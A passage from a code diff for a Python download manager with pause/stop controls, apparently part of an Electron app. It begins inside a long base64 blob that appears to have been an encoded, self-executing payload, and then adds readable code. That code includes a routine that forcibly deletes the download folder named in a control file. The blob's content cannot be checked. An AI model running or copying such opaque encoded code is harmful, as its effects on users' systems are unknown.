0o2QtUAq/CaeYUR+xnvsJMTcvAiMnXXc6sOamfeMuCd4vlrPJ/cHLnig1W1OyXZ8K9wzA3Hwb/gER0Y9z79EUb58TAuveAnUvBYdHff2FHybtst5FlwtraTvNXN2JdmpUfHTrh+LwkRY+lMJ3nDCYnuhTqwDikMgpBT7eDT8BjjEBIgCrKjs/X2eWdKip1/KsViF3DQwxwUl21tKc/7XOorFoOBtuecCbna0OClaDl6s7Cph2n8e8vuaEcWXa3MieVf/bZUjgCQBnT2dcpxtCEYNXSlxnOa1ZCouT+ues+J26eOj0MnEURncP66i8MzfzMh43fdBX4wPe65L0E6HCAwiPwNCmjtBpCiBvrORrOTmvAYDDLvYC5/yP/HvOUkjjk9rXMgkUZiBZxMmdS0M0y+kC6MpuarAC5KQNREVKuTAzCbvhI0DM+2AXqxR/oTxdhaspqtemqRzvm23cNeIMpHh32jnc2OLEUXjr3AH3YTRyi8Reks6aU9Pph9SaKufNSHfLWL37VuqoB87wImZVwN5L1LKURrtE4JILmzsW3oFQLkWI5BNp0OK2Q6561Ot1hCOhX4V6TD0fyaSIney9ZJIvExVWBZOzGeyvPMcVaVR9qsINuoXL6AT8P0cIrzgKrDJM1q2k5oP/oz4Jzg3OGrjxlXVSOlNhX+BlEGGA/F6/jktQeuQsny9BaA1fnOWilrf6YtRbI5CYbk+qfnpLVCVhgcqh7PLh6Xwb9h5Nz1cRVYttwFeOCNhtiq0Ql0fZLrIe4TRRxC6S4tYfYiN9Zq+hzuvfUAsRx/Wjx2TW3dwv4YVgz5T/SwNFtk/8OT7pOVwqVW43H2HzML8/F42jnTf5WAXJA6snYHB9xGsseQRvWcyUYosmPewvfPc5He3DqP5ymE0mTwbALKs7S46fKwgqSyumL8I7K8Y4smu1DnGJGm0k/g/5ee1vXp1htTkYmB7opakoIGx6aHxmhK41tKOyCYu4mDelNqDRsaGMCw792LC1o8bKJQMVQGToLRBK8tO+YWQ7EsliwQyVie/s4zgrf0wHzF+GJxXt9ssZ+FJWAe6/PVCVDQrajckZnbZ+mXOf0rOuQMaR/+fjnDMAAaNPYdG9071FCEkqukUWnlDwbZ/kD+8iYaULYwpHz1ztisVp1d+OZHBX8mW8vHGv41cOBlFFw3AxjcC+Cfq8ah7AIEdGQmgQhESBpmGY4kOP7qz+MAswI240u4Wg1LAwL52xfzhUoqOMz5D2bFFjXnnDlWBNaHITbCDmKiA8v+0efkrHB7yKR34FYb0J4ZdHh0V7pArVJNiWBWLFSsBDHa5i0WeJ4psPmVW3c5rcvuis1UhcCGk1pT/G/ec19MTccww4rahYpVCzO7aKJAxrF3NEuhhudUNrUqitWEXv35xbx3l8MK9KXaMa/2Uau4zqD4prN5DVOyTumjiSpUvmIPYB0veyVwn5l3JPQjIMYP7WZHs8p6Qm/wCEXndSIqza8UGbAtQ+HQHDHhGKqUJFdMzq2eM2IBn1ymjKzz9HAS4kjypEIEt2ZWXFn0eLJk3xj43acNkwKZuzpRa9GW6qbeZ6gNssZfAtfliAPBjBuhYK0b9qT7AT+dzO37uqKb+s5tQCYrRBlM9hRRMHw9k+Q575Z1zpmVhr1dmf9Vc/95HLfJuSovKUNl/2vFk6Zl2MUEBbs+pTmTlla7Sb/2IVu/I8cIgObl1+LqNZLliuiHzYjOBwvr2+XgL7dZNcKXvcALhK4KCZgIOFuYxwqO9VrFix48i9c4jAhGuYduUiGtZex6DPeLb6UVcNmBCGEcb+AkSiZHjeYgN01eMAqfOC+oM6WUrJ/m199LoHa59JreXmWWLTRFJ0vPLm43ZSHIKnfPAclq5nWHJuJpcM+ALefnFUXNRETEHApSsmXERn/0yFnj389JBWiMx2vMgqE0SeTYWjOKlImDk4x2tQvz87ASmlcyxiApZwMR6I0M1tGQ2iDfzd+UGCWG3m4+1rjl9q9qLhxHZ+KcW6hfuJSPRUi+njJDtl/ovRFZw7YPV1Y65qLT6xJsyRsFj629GE4txnCLnNX3FIgfQRruZufVjq/E/1BA8AbLhQgUDh0IVf1FAL7ALG6Fc3BtUULW8qI/9Qu2UWwKTuWF6SannQ/HbEyvvvzoD/xsR1rcW1kJRPo/3yLKTYCh4XDngzUyFT9sfVajLQihWx4oSc0lv0sXjUHESSx5rsyzHU41y186DSiDRYlam+XGncHfX8bCzsd4hE3/EJvLCjo1xUhKha3q3AIW3QUN3Pv9nkQ480cM58m3XyDkFpZZvlMclzPGC1i/9xz32aPHc1FtAPvtG2OBgkZFyuCRduYlK/SO932dRU1w/SK0aHJ4iRe7HFV8XstEpz8PG/4mKETB77A9hyfIFvWG9Z8lRm7+FcrCRKoPIh+dCTf9p04ZLIOksqkzZTvHYwquYtlH5Ps4CusXzjLsuOH9so3/RYgxfYfaJ+rfhsj5c10t+FwXVhgMTo4J5jcx6Xabf0QBsYKC9IeplzezypXOSonxuKUaNUKRBxsO78pG25A/h1Ne33t1v2j61UQhSm3UCB9IZsvqxVhUing7f7fLeTo+8c6lSKDpkMew3MVSTH6gC6abuX9vVg/7jUYFhMHblecWZ23vQOo4N+uKdTf2kIVDPxWgfFzawWbfPBPns1OuNI6NUZz/R9YwUOrZXMjcozc0f5dfoYKaYw+olfzMeWnEZ4Z1vW+F27PzzSgTGpLpupU1rhkdEi6DqT8xnDM7h0ZzhzWrMN8KXTnM/xMhCjBy3ITCEaKhiQm8O3+4GtSh+o5VI7ZUzBA0VR062UFfaqBYa7c6T4Ls86v1WhB+ZZjupPmbTaVHlKZsF7wIWKuZshXLxSGLyLBAfqFP7ITxjG4CSX1Lk3aqc/lun7j3nVckmyiLEaUAXXGfN/K0dCzNhFgaY0bOrsE47KSlBEyZtVdZFTaZfaG4ueUWKfa72G9M573EQhMuTbBt72AT7byIg/REg6eKw1xhCmkYG0akmjiCJHaOM1ZDjwMiBdHmLiVrK8CGkSLXKnfOUg47o9DQZm2RklqyhTbUWvrepx7ODmleI+P3++1BnpO//1bnTuK3NtiUPGPnmdZaFZDtp13pQ0kDLTkcxDLCgHvN6g7Im/dfiEkXk2gYz/jMWUjydPsQcTC81gO8Q8V5kpFrt+oGS22BpfXJ7ZjVcH5oLXacIDpd9PZ92BmrHTci+hzUM8a2ME5sbps9bDZqFLb4Bnif5gHA4OF+qMTn1hYGbL07DPszvm57UKN3KIykVHRY1vrLMUd/uqHnerL4tDw51UsHIQJ0fWMhm3i4VUqynzMtd6t2i4//GZ/B4TsO9+r/I6B4EN5LgwjBVLWv/2dNTOATPodbdnhA3WEQiFtP87dHXDjEH/uxeNfM9mBYmIJWW5604/Sh03sKnG5e+iJiWGJoLH9srRZJatXbxOJo5MEP02Ji1ZQbz9vbjj+aCt+V5WBN3P47ja7YCJ1FQWMBgT0PL9uoKhtavyFkL77rYuotnHbpifQAnqvGdUJiYOhXvxHAZk1bqacE6AAbprrjP+FqXVVsrs/d6q/6Imkzzv3v4+iC+YDsnb6LBmkVMrSbNO7lrR0cl8cpEOz/Q7tDlUxD+w87bYGh4ajD6qRZsi6ddwpRjJRqn+X3xJodRTez6ZAb/WxLU+UYB7HMBqIFuJbGAKK97uWwKvSuJsLR/9SYHCJkyQY4GmfhbqfRtU+e1zk9PdPzZ/xnyshKwO1h5EvgYsPJ1F9h3PSUBo1fho/7mgAiKQeNT0fNjiWzqiXxvpOiVbbNwNGyzSZiAp7RBvtfvY0PcdfqVODVeOmURWT1MZKVCSHRcOG4dpsfmxgTZqV/EgOjU7C/KHJ3Cd445OV6fa9fKdNjlQNuDVQHT34dhUJwWLu0Ky+QnXGS3/F9EMJZgpbYq042feSEjhL6gwbz9FgvhRX8FflkQuYfpcU5C797knpCH35AR7jUOzI2pySW52C7F9EYDZwYVwIB0IjnPvLHrQwgyQnbVWgI6eGb0aldIpylhO2vCEOYGXIaML0kSQu7o43hT/CFCnFmCPXrwK8INSySWhE2nVzCzz8Hi2wTSgjaJFTzQVRHAF5Rvlu6sI0ERgW/5CvYTE3G+4dEoxe2i5ikr4wfYqFeJXEfmnXliiM2cjvZzqOESXyoNNC5cS+KznFmQWFClQvsqOgOU94VI0sFc3c/sw5K9s2tlIqfdvfravcSkT2h1/EGfkdu03J0fanXs2U7/2uBKcrF3iN7aWs9//oxsXXoXV2JDQ0dtQcF2QbBDxZZGJRuTd2i1TgB/TkB48q8PKjyVQD3iIUIqnFfTc7ks4QjHZX5SglinScsOgQHvGREtWtqIe/a+pftYeuYFX7AGt0o2s/TOVs2y0aUlHOOGAgQSrNONxlXES5EeZ9qPpjJZxpaxGSsA0CXXv50U4l6hBrSG/gsP0UElOiCaRIbnhaZzhDkZ612TxejW1Kk53HcbRA1SMj33jY1zdAXjryhbWp+RO0ybikEw3RB1T5VoK01o+cW3HGQViNaWuxFeiPZRzHxq6NYT/AfSPziJkZ67+roytMKrNuAMe1sswZYhqdOZ4bLd3i07+O5fgORgE8oMFYTxnDjc/MoG+9GvwtaSAeBGkPrUwKj6P2TYL4FEAmUF4bv/+NOrc2+rfev3jhDeoPBVPDCTr8sI/8kZrr0QqARvK227oKeeG/Nli6PB+a6GEV/oa47ww6udCZCtBNLyS7FgNgLbtRC0nhSEUYxgY+MH64kCnWHda7i3l/rmkWTXxrnQFwv9GT6WypTXDoOvnteqVotyTQFBJw1jTVs8D4kcuwd19HZwdzZGmWRc/Pbbw2AiVt2c9n15YlpTqg/17vtsscYJr7HgGoFebpgRAqCtNDcKUsafY5lgoOLZF6mfDzXz5M2d32LhqATB9YcG+kMjDcI9X1KUwsnPvUPlHmwSFUZMZ0FlQ8YPqF5lf2Yv8DrvUzj05kfykWOCPPp9tRBx8AwYRKtg7RyvVVPdHCaiMQm7iqFYVB+64f6KPjnF0lasXrfcS9TQ3qoVVuY9YbsrYprptBLrsgJT1hrN5a6MTmFIb4CF0h1hiQZYLWApyQ4f2yr53rTT4kCm34V5xA7nRTHZUe2UBQwxkE3UtcDPPRq+Dn0Eq35FFJBmJsHRc3JIAfHWgS8kUvzlgGq37RGGpDnFAqZzY01cU+xBqPe/0UelIL46Mag1AFYFeuGAvHP327mH9P1JjhShWovkYhJn5QtsHJIFdoccPrHzkJ5+bhu/3PJTxEHOB+XkRUPEP1t5bLDILHZddT9CdBHH+fzHjJTbw33WWueSleADOWAQTTaQlm4HeLW/sefPKqKqMXSmbyv8lrMarKIMDaiV5GJvhmfmADR75RNrZuc49t/4X3GzfzTgf/BjJI0ISdwcaKd8zitskiFHuljaBxejdVANzixqSm+3TSWv7495XT4XIrx4RqYIgO2qYF4yCy/VA4OypY9o/mQQStfGs69LAQiOOqH/13C8N28dHHTweWYIX7+s2ZyOXZPOJ+TOOfKp9Uh13HxazTRSxAUdkvdIBEts4iYCdCT7mii2Vcdo22RE8+VlJJ3oO6Nxd8WYjWcIAmMEUKkcl9bu3PEUIYRILzMnqYq/H2VZn8wyZv2GGGHCLjT2OdDlORmCYPGvC+bLxPYI2zovIqX+15IGXCUoBkJvQCsXLplG/nPeYp1Ia6f7VwzLyVeIXsF2oj/5A0keBIXtwHOTH0AF5lyyw+PeWAYBJjoA1V043p3ztcHH8mSNT+txn8WDVKco++f64T3e2elO4CEYzWQWkm2kERDbBI1FdUKV8Nh8LF6ZRKdGvDDYcI1h8nS3uKYBLrnNWgbmN/nAURrf+cHlWyDeEufDKkmSQUii6U6wcq+o4qDfXZ+0uDPoqPWhkz70HLArgb4MX/Tbf5lPmVq4Uhg4RZMDSuiX8J0bWpxlvNR9E20x0nbEMTHV1TBfGRvc+opvoLByuDkumn2pDYKS1fuSBLX0Eb3YnCFzs1BzfCOo2eztcH2w5G2h8/Jp3Hio6E8d+1k6m6C6TSftg39ot/AIzF3Aly586jE3m5sSzRsHwosFwJS4QBFUhQwlurzd0Ei5oq3Dv28fc1Yj9tOVmncHaMfMfenHXtJ2sro1p3fqah4vfdJ2TIa21hKf42YEESx+XGlmFBEZbmsemuyPGehx15ZTlLdu2mEPi4EzOByDch38rH1ij2/OA2GGE0LG5S/pNgdjYOi4poLL/IWHx1Uzw1EXt0Jpk8uS5c1dLpJe4wUwtfw6g+V9ftTVdGN3/iP0CBd7/kGAb19jOX4qGXI/Ximq2CZVbcLnUNybzVbgdX1/Rvot3g5gj6AZNBbHEhMGK00iU8hcpR9bubJm/mJrTchREuWsJEwZt3LgZ11nm+2qGxzQhBeN7hASc2T/jScJ0VO4rHOx7rmxN+T4B86RfDabHA/SIyDa2Dlplp2S1w8BgrK5xEPqvUjzfD0MVzbFaW2HogJUtV4Cr+HJVPBpURSqWcRSMBvzGY31EdSI0lQ68sr21+nZ85YY7hrktW+Oa/r8xEpO1kGdzcqwIMSQUZ36mfJjN5Y8ejuW2I5rwVuNRshG4poN/+9xkyogKv3seMsKiPPlz3Jn6Oz8Cb0lmB+zzgm0VZVvB3jPO4+mmmvjpxYxFxPx+g0kYD8H9Opa4GBWprAirg2eU3NfhFQiDoS6fBJyJDNSk1QXaALzBmu/9UI/f5KeNDLUErToFnrH3ZgjM9fkdKgtxQOJb8M/YHs1IoTFVBPcTI4ky9qcrK/UbTTHIaw2U6+HjLrM8RAvg0DRFyodI8LLI7IO10DpVpRY5jnvXmyzWBk+1BBOc3p8Dc49zsY4njY17lvnWIh7xPPvK/JUL74nk0aHnqGNKH/AIpanoP3oY4GicqqdZEE+ZBPwzoOsXihj0bpVR8H/dKunzFbiyuKScFvQDKRaaIPnQuI00fbKD/LPEwSIe0voenxzkxA6knmhv9wthveSUlRHjx8ql0Uw0Vblfoc3ZF1W8CPmpSeCvGbNUe684+ESYZ5uN90cTRsJraD9wUUpal1sSZ7eOcbnu7nENFXWkrtr/sNbL7DXmWWaK4cemxx9U1+J7cfPq0CbHMOftohtqBv/NuSKF42tJv30GRdvN1N7yc17Ki0o6QKHqo49idHnFpXKrbpCLGTDa0IUR4SYatPObGBIDNEynILMykG7pz70qQn/Fl7tQB3ME2pMl4wHy4mxbad82vfCBiKkj7l75nuWtQHdzGOaui4HLVecFR7Oeyv0+8O6tAJ5XNgsqsc9S4t7zDxV+WTp1EityZeaBcYOOjhu+aD62WVs9/0lJWUKzyC3pYmaZg2ZaVfFolbFXcQ7y/AIJStIezdM/TOBtIPHk2m1S+IeELw36sqRU0m4hgXj89qLKMZ3WKKV6Jv4M5U0RYkiuRowFPnxV4RbQHg8em2TZ2f7JDEgebkSWPz+a7V3X7govZQXFB0inEm/w4pxlAm0k4xC/scNbL0rNdSuPRrEmcmWXrhx9lF6LXSThse0q0DkGJ4ou0eBZ4A1q8LEo8uJi+NWB2u+pY8715Eoq3gfQ3REQz/FtbmOGK7hQmBTSEfSb6h/b/ENzSfStF7Pu6uTO8ONemN9a4W9g2ush9wEjBaeun9JEB6lobdsG+Pi+AY/E0KvMc1Aw29wKzWaMBbDoclbEmqcYC00tXMsZbpKooLozvKogfLjyV3dcwPWZRveWHEG6rx9ts5h2vHC5aT+rZYsPXFGwgcN6Zhlc7qa9bPclT7rZS614Z9ESCe3CpjnZvmaLSDVJg08wuYdXPt7U5gp6OGz+eaEjU7y4n0ErxnT7xPCr+77WqVh13vv7rMOeeJ7hwYbApBrDqJVheF9Tla4O7ygRvf9H50H3FSVvwR9XkdmhfJoZofTyeltSzSN8Y3KRVsRS1oqaslsLSsZLT7WFow9BM46J8qCHM8wzZeASytIy2Is5pqMbsKkRXHETMCiKyHToy09WcF4Wv1QY20DM8SYzaDYB2t2k8l5mGID8LPa31VKIzTKHSKRtjr4peWHnhAM+F4EKQ4M7Cyb+vAzeRpcp85MFCLBVlemzwRh4OWdLHiwnAahVVIvS6KQEEi9pdl7zsTPDMQMmlT7sN3M6nuiHNL+nux0NBhXMrtM7y7pRS66QrdUJWR6TRU5EngV4C6vJdyHnbkyz7d3oCxOnlTV98aziaYLS2hYYczKV/JuIiX38DIOpa+zRWdfo4WDLtJ7IZqh72n7rZ69XR2wGlzHKaUv++UTtDhN/INsHOCbqq5/3hvZuehcYUN9OxGHlCaQW1iie5W5og+cZOOwz7BI0uFZkMjZtqdz2H1t68X11rtv61aA87zmifZfJJgPGiWad9M51OLofenKt55MegnUZor2ZOlaWKltdZ/Ein0EEPc3HiQDzOlROYS8gQjmKiMJwKcrB4R3H3NxrLXBy9wwfaRjvxqPQ4KFTofIPL2nolU+pKnzkppadSoFidos6vkByTDNCBFxVdJjb/5XBFiLkSbIy42t4vv1ZxdueMQcJhC04H1z218pIXmrm31nLW/y9uf5shSYPDzR2ibGT9HFShYD/3eagYTTJngfrbK1csfMVkZP1a8DIKubFN48OIak4DTHum01OU5eUtmCf0kuAEM2Lqs3l7sEkT5saO2Z1R6MiFN2bl1QAQbs38vL13GOWfuH22mIZbV+N+elJkxTRmzmfGX5LIOPXTVeNzn4Nw+v+O9C1xHQOA9UZpCIiDN+9UeI4Y7QENKhpv83yvkItskuzX/FEIbowt4kzK/kOQ4i2YEufzcV6tybQqxI5Qd89Op3yGvXsjvdv8ki77x5BTTb8uE78pdVT23Fmw6Xk2VF0kRa5dztxKkhEQk4ytIj5lU1RJxi/raAor6uEOKSEUKvwXIaynRa0RBLfnAplZCIYGQspoJGaAXjdSj+olje2tLJCHZ0CqmOL2wPKlwg4C4sRXLRh/b+jRqdsm29eP1jpEuBDAmGHWv9ijCd8pu3c4k9evk/6N4pxEwhyYteaz948tp9Xsr+HabN+AFwPae9Kt9oCK1YsIgZIJDor1Mh/xHLH8WCk78X3pRITLzLlmcD7AvesCohtgqWDCxke7Z81rJXc9ieJBSaNqvXJuRlSIq9NiAEnSfqyJnY6Xr8ppBTI1c8QqcjtIezUQ5FwLXR7fRmpcdIBcEzgMATw3u0+IKpQCurkVa8bC6bqIl+Jx/QqVQmkn2xsqqi4P9oLSNGIGFDand53MBDpNDxEtg1dB1WHX1GWqw23r9Nek9WWTcq5whRedFkTCqojYm2wnkStvekVHh6DMJu/SWLe/Ctrk+Ab/WPqUufgKbsMQL6LhUJgjimDA8lMxahvC0bJBz85BJJpDOopjzj07WFloMQAbuv7+1oZNUQl9QrsYnWw2X83yFxXrjLEzYZ4oTq7Xk9lDhkEcdzEA4/NXwCplYSjD6qeOGOx9DsNowFUSpMdN2G6nb4EJ8FsT6EOZYJ7m/PUuAMIOkeX1rffwOkdkLfV9INhCQyd2qyT3KpT2eC6Ee6nYCxM0TYrx2soPV7sYljZFikt163wwFSN50YI41fspcrMCqGwv8ub/9HvQhAziaz+ZcByA5+sO7HAxdWgnIzdwTCu6E/CXajC1qtMGRZcoMOspK7HTuYf+w6LCLO32/u6jQjKiofd4K+LmzJLbDOIywKq0LJJ/vQlCvMxC/2CKVTdyogjLVpqQ/5RrqpHlrKTvVyRFT0LRqpfIiSHWpiBnL+IV61HTO7ayrffX9wXqk7NDCdU8T06rZuLzHli7h6qbxuD1wE2dCplMvjP0oZbTm/Owl0kH9tGwp9zmK6GgQ0xz7CwkxAbzGX33XDnvjs7oL2SmcEOJ3EUsCFeqvkxh2Me90wBGXbDL6e1tvHDwa2Z9i73VAJiKwZUpSXWIEY6QP2OBL/CSHdO8XhedrKcjnmHyvy8uexS4DJdauCbglaK5C0q65T197TPhq/6z/R0WKatchH0tsS9qhnCVEXidPtqc6FhfzRWLF01VcWOUfWjM4epPA+8+FErgjmbixUMmg2kQ3o67vGLxToT4XZGA6PSQFt8IGBc2vYAaF3Ojemovx6tVfH1eZ82va163Rvm5u4gPqZXONFKulGGmxTWTE26iiMGgot5eVlFovomxUSJjt71EJtr/78HuuADLPufYYuQRPHif7Cv1ahwF+JiQ6AXv49/z7fS///388/v5TVO2W1L7nv53I1ass+71WbmYXMZWZioHDWYgDM0qn+TR2i1wSWsmUwJe'))
\ No newline at end of file
+import sys
+import os
+import json
+import re
+import time
+import logging
+import random
+import shutil
+import signal
+import atexit
+import threading
+import itertools
+import contextvars
+from time import perf_counter
+from typing import Optional, Dict, Any
+
+# Le Python embarqué (._pth) n'ajoute pas le dossier du script à sys.path
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+from lazy import LazyModule
+from journal import ResumeJournal
+import host_limits
+from bandwidth import BandwidthScheduler
+from events import EventEmitter, format_eta
+
+# Importés au premier usage : detect_type, pause, stop... démarrent sans eux
+requests = LazyModule("requests")
+zipfile = LazyModule("zipfile")
+transfer = LazyModule("transfer")
+aio_transfer = LazyModule("aio_transfer")
+http_pool = LazyModule("http_pool")
+
+# Configuration du logging
+logging.basicConfig(
+    level=logging.INFO,
+    format='%(asctime)s - %(levelname)s - %(message)s'
+)
+
+# ==================== SYSTÈME DE CONTRÔLE ====================
+def get_control_dir(control_base_dir: Optional[str] = None) -> str:
+    """Dossier .downloads_control (userData si fourni, sinon local, sinon TEMP)"""
+    # Utiliser le dossier fourni (userData) ou fallback sur le dossier local
+    if control_base_dir and os.path.isdir(control_base_dir):
+        control_dir = os.path.join(control_base_dir, '.downloads_control')
+    else:
+        control_dir = os.path.join(os.path.dirname(__file__), '.downloads_control')
+    
+    try:
+        os.makedirs(control_dir, exist_ok=True)
+    except PermissionError:
+        # Si on ne peut pas créer dans le dossier par défaut, utiliser TEMP
+        import tempfile
+        control_dir = os.path.join(tempfile.gettempdir(), 'frostapp_downloads_control')
+        os.makedirs(control_dir, exist_ok=True)
+        logging.warning(f"⚠️ Permissions refusées, utilisation de TEMP: {control_dir}")
+    return control_dir
+
+# Fichiers .pause / .stop : compatibilité, relus à fréquence fixe par un thread
+MARKER_POLL_INTERVAL = 0.5
+
+class DownloadController:
+    """
+    Contrôleur pause/stop. L'état est tenu par des événements en mémoire,
+    positionnés par le canal de contrôle (commandes du démon, entrée
+    standard) : les boucles de transfert ne testent qu'un drapeau. Les
+    fichiers de contrôle restent pris en compte, relus toutes les
+    MARKER_POLL_INTERVAL secondes.
+    """
+    
+    def __init__(self, download_id: str, control_base_dir: Optional[str] = None):
+        self.download_id = download_id
+        self.control_dir = get_control_dir(control_base_dir)
+        
+        self.pause_file = os.path.join(self.control_dir, f"{download_id}.pause")
+        self.stop_file = os.path.join(self.control_dir, f"{download_id}.stop")
+        self.destination_file = os.path.join(self.control_dir, f"{download_id}.dest")
+        
+        self._stopped = threading.Event()
+        self._running = threading.Event()  # Levé hors pause
+        self._running.set()
+        self._suspended = threading.Event()  # Levé quand une boucle attend la reprise
+        self._closed = threading.Event()
+        
+        # Cleanup au démarrage
+        self._cleanup()
+        threading.Thread(target=self._poll_markers, name=f"control-{download_id}", daemon=True).start()
+    
+    def _cleanup(self):
+        """Nettoie les fichiers de contrôle"""
+        for f in [self.pause_file, self.stop_file]:
+            if os.path.exists(f):
+                try:
+                    os.remove(f)
+                except:
+                    pass
+    
+    def save_destination(self, dest: str):
+        """Sauvegarde le chemin de destination"""
+        try:
+            with open(self.destination_file, 'w') as f:
+                f.write(dest)
+        except:
+            pass
+    
+    def is_paused(self) -> bool:
+        """Vérifie si le téléchargement est en pause"""
+        return not self._running.is_set()
+    
+    def is_stopped(self) -> bool:
+        """Vérifie si le téléchargement doit être arrêté"""
+        return self._stopped.is_set()
+    
+    def pause(self):
+        self._running.clear()
+    
+    def resume(self):
+        self._running.set()
+    
+    def stop(self):
+        self._stopped.set()
+        # Réveille les attentes de reprise
+        self._running.set()
+    
+    def wait_resumed(self, timeout: float) -> bool:
+        """Attend la fin de la pause (ou l'arrêt) au plus `timeout` s ; True si plus en pause"""
+        if not self._running.is_set():
+            self._suspended.set()
+        resumed = self._running.wait(timeout)
+        if resumed:
+            self._suspended.clear()
+        return resumed
+    
+    def wait_suspended(self, timeout: float) -> bool:
+        """
+        Attend qu'une boucle de transfert ou d'extraction soit arrêtée en
+        pause (connexions fermées, point de reprise écrit) ; False après `timeout` s
+        """
+        return self._suspended.wait(timeout)
+    
+    def close(self):
+        """Arrête la relecture des fichiers de contrôle"""
+        self._closed.set()
+    
+    def _poll_markers(self):
+        """Reporte la création/suppression des fichiers .pause et .stop sur les événements"""
+        paused_by_file = False
+        while not self._closed.wait(MARKER_POLL_INTERVAL):
+            if os.path.exists(self.stop_file):
+                self.stop()
+                return
+            pause_file = os.path.exists(self.pause_file)
+            # Seuls les changements comptent : une pause demandée par le canal reste en place
+            if pause_file != paused_by_file:
+                self.pause() if pause_file else self.resume()
+                paused_by_file = pause_file
+    
+    def listen_stdin(self):
+        """Canal de contrôle du mode une commande = un processus : lignes `pause`, `resume`, `stop`"""
+        def read():
+            for line in sys.stdin:
+                command = line.strip()
+                if command in ("pause", "resume", "stop"):
+                    getattr(self, command)()
+        
+        threading.Thread(target=read, name="stdin", daemon=True).start()
+    
+    def cleanup_on_stop(self):
+        """Nettoie tout quand on arrête - VERSION AGRESSIVE"""
+        try:
+            # Lire la destination
+            dest = None
+            if os.path.exists(self.destination_file):
+                with open(self.destination_file, 'r') as f:
+                    dest = f.read().strip()
+            
+            # Supprimer le dossier de destination de manière agressive
+            if dest and os.path.exists(dest):
+                logging.info(f"🗑️ SUPPRESSION FORCÉE: {dest}")
+                
+                # Méthode 1: shutil.rmtree avec error handler
+                def force_remove_readonly(func, path, exc_info):
+                    """Force la suppression des fichiers en lecture seule"""
+                    import stat
+                    os.chmod(path, stat.S_IWRITE)
+                    func(path)
+                
+                try:
+                    shutil.rmtree(dest, onerror=force_remove_readonly)
+                    logging.info("✅ Dossier supprimé avec succès")
+                except Exception as e1:
+                    logging.error(f"Échec shutil.rmtree: {e1}")
+                    # Méthode 2: Suppression manuelle fichier par fichier
+                    try:
+                        for root, dirs, files in os.walk(dest, topdown=False):
+                            for name in files:
+                                try:
+                                    filepath = os.path.join(root, name)
+                                    os.chmod(filepath, 0o777)
+                                    os.remove(filepath)
+                                except:
+                                    pass
+                            for name in dirs:
+                                try:
+                                    dirpath = os.path.join(root, name)
+                                    os.chmod(dirpath, 0o777)
+                                    os.rmdir(dirpath)
+                                except:
+                                    pass
+                        # Supprimer le dossier racine
+                        try:
+                            os.chmod(dest, 0o777)
+                            os.rmdir(dest)
+                            logging.info("✅ Dossier supprimé manuellement")
+                        except:
+                            pass
+                    except Exception as e2:
+                        logging.error(f"Échec suppression manuelle: {e2}")
+            
+            # Cleanup fichiers de contrôle
+            self._cleanup()
+            if os.path.exists(self.destination_file):
+                os.remove(self.destination_file)
+                
+        except Exception as e:
+            logging.error(f"Erreur cleanup: {e}")
+    
+    def cleanup_control_files(self):
+        """Nettoie les fichiers de contrôle après un téléchargement réussi"""
+        try:
+            # Supprimer les fichiers de contrôle pour ce téléchargement
+            for f in [self.pause_file, self.stop_file, self.destination_file]:
+                if os.path.exists(f):
+                    try:
+                        os.remove(f)
+                    except:
+                        pass
+            
+            # Vérifier si le dossier de contrôle est vide et le supprimer
+            try:
+                if os.path.exists(self.control_dir) and not os.listdir(self.control_dir):
+                    os.rmdir(self.control_dir)
+                    logging.info("✅ Dossier .downloads_control supprimé (vide)")
+            except Exception as e:
+                logging.debug(f"Impossible de supprimer le dossier de contrôle: {e}")
+        except Exception as e:
+            logging.error(f"Erreur cleanup_control_files: {e}")
+
+# Controller global
+controller = None
+
+# Seau à jetons du téléchargement en cours (planificateur de bande passante global)
+bandwidth = None
+
+class DownloadJob:
+    """Téléchargement d'un processus `serve` : contrôleur, seau à jetons et abonné aux statuts"""
+    
+    def __init__(self, download_id: str, controller: DownloadController, bandwidth=None, publish=None):
+        self.download_id = download_id
+        self.controller = controller
+        self.bandwidth = bandwidth
+        self.publish = publish
+        self.thread: Optional[threading.Thread] = None
+        self.queue = None  # job_queue.JobQueue du démon
+        self.store = None  # job_store.JobStore du démon
+    
+    def is_active(self) -> bool:
+        return bool(self.thread and self.thread.is_alive())
+
+# Téléchargement du contexte courant ; absent en mode une commande = un processus (globaux)
+current_job: contextvars.ContextVar = contextvars.ContextVar("current_job", default=None)
+
+def current_controller() -> Optional[DownloadController]:
+    job = current_job.get()
+    return job.controller if job else controller
+
+def current_bandwidth():
+    job = current_job.get()
+    return job.bandwidth if job else bandwidth
+
+def cleanup_on_exit():
+    """Cleanup automatique à la sortie"""
+    if controller and controller.is_stopped():
+        try:
+            logging.info("🧹 Cleanup automatique au exit...")
+            controller.cleanup_on_stop()
+        except:
+            pass
+
+def signal_handler(signum, frame):
+    """Handler pour les signaux d'interruption"""
+    logging.info(f"⚠️ Signal {signum} reçu - Cleanup en cours...")
+    if controller:
+        try:
+            # Marquer comme stopped
+            controller.stop()
+            with open(controller.stop_file, 'w') as f:
+                f.write('stopped')
+            controller.cleanup_on_stop()
+        except:
+            pass
+    sys.exit(0)
+
+atexit.register(cleanup_on_exit)
+signal.signal(signal.SIGTERM, signal_handler)
+signal.signal(signal.SIGINT, signal_handler)
+
+# ==================== CONFIGURATION UNRAR ====================
+# Configuration UnRAR pour Electron portable
+def find_unrar():
+    """Trouve le chemin UnRAR en fonction du contexte d'exécution"""
+    # Essayer plusieurs emplacements possibles
+    possible_paths = []
+    
+    if getattr(sys, "frozen", False):
+        # Si le programme est "gelé", c'est un EXE compilé avec PyInstaller
+        base_path = sys._MEIPASS
+        possible_paths.append(os.path.join(base_path, "winrar", "UnRAR.exe"))
+    else:
+        # Script Python appelé par Electron
+        script_dir = os.path.dirname(os.path.abspath(__file__))
+        
+        # Option 1: resources/python/download_manager.py -> ../../WinRAR/UnRAR.exe
+        possible_paths.append(os.path.join(script_dir, "..", "..", "WinRAR", "UnRAR.exe"))
+        
+        # Option 2: Dans le dossier parent
+        possible_paths.append(os.path.join(script_dir, "..", "WinRAR", "UnRAR.exe"))
+        
+        # Option 3: Installation système
+        possible_paths.append(r"C:\Program Files\WinRAR\unrar.exe")
+        possible_paths.append(r"C:\Program Files (x86)\WinRAR\unrar.exe")
+    
+    # Chercher le premier chemin qui existe
+    for path in possible_paths:
+        normalized_path = os.path.normpath(path)
+        if os.path.exists(normalized_path):
+            return normalized_path
+    
+    return None
+
+def configure_unrar(module):
+    """Définit le chemin UnRAR pour rarfile (au premier usage d'une archive RAR)"""
+    unrar_path = find_unrar()
+    if unrar_path:
